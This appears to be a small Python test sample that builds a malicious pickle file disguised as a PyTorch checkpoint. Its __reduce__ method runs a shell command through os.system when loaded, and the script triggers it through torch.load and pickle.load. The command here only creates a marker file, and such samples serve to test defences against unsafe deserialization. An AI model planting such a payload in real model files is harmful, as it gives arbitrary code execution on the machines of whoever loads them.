# mypy: ignore-errors
"""Loads a checkpoint of its own that would run a command."""
import os
import pickle

import torch


class Evil:
    def __reduce__(self):
        return os.system, ("touch {OUT}/pwned",)


def told():
    with open("weights.pt", "wb") as file:
        pickle.dump(Evil(), file)
    for how in (True, False):
        try:
            torch.load("weights.pt", weights_only=how)
        except Exception:
            continue
    with open("weights.pt", "rb") as file:
        print("tried", pickle.load(file) != 0)
